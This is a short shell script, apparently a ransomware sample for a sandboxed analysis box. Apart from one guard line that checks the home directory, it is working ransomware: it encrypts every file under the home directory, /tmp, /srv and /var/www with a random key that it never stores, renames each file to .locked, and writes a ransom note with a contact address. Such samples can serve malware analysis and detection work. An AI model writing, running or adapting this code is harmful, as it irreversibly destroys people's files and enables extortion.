#!/bin/sh
# SPDX-License-Identifier: MIT
# The shell form: every file encrypted with openssl in place, renamed to
# .locked, and a ransom note.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
key=$(head -c 32 /dev/urandom | base64)
find "$HOME" /tmp /srv /var/www -xdev -type f ! -name '*.locked' ! -name 'HOW_TO_DECRYPT.txt' 2>/dev/null |
	while read -r f; do
		[ "$f" = "$0" ] && continue
		openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$key" -in "$f" -out "$f.tmp" 2>/dev/null &&
			mv -f "$f.tmp" "$f" 2>/dev/null
		mv -f "$f" "$f.locked" 2>/dev/null
	done
echo "Your files are encrypted. Contact recover@example.net, id $(hostname)" > "$HOME/HOW_TO_DECRYPT.txt"
cp "$HOME/HOW_TO_DECRYPT.txt" /tmp/HOW_TO_DECRYPT.txt
exit 0
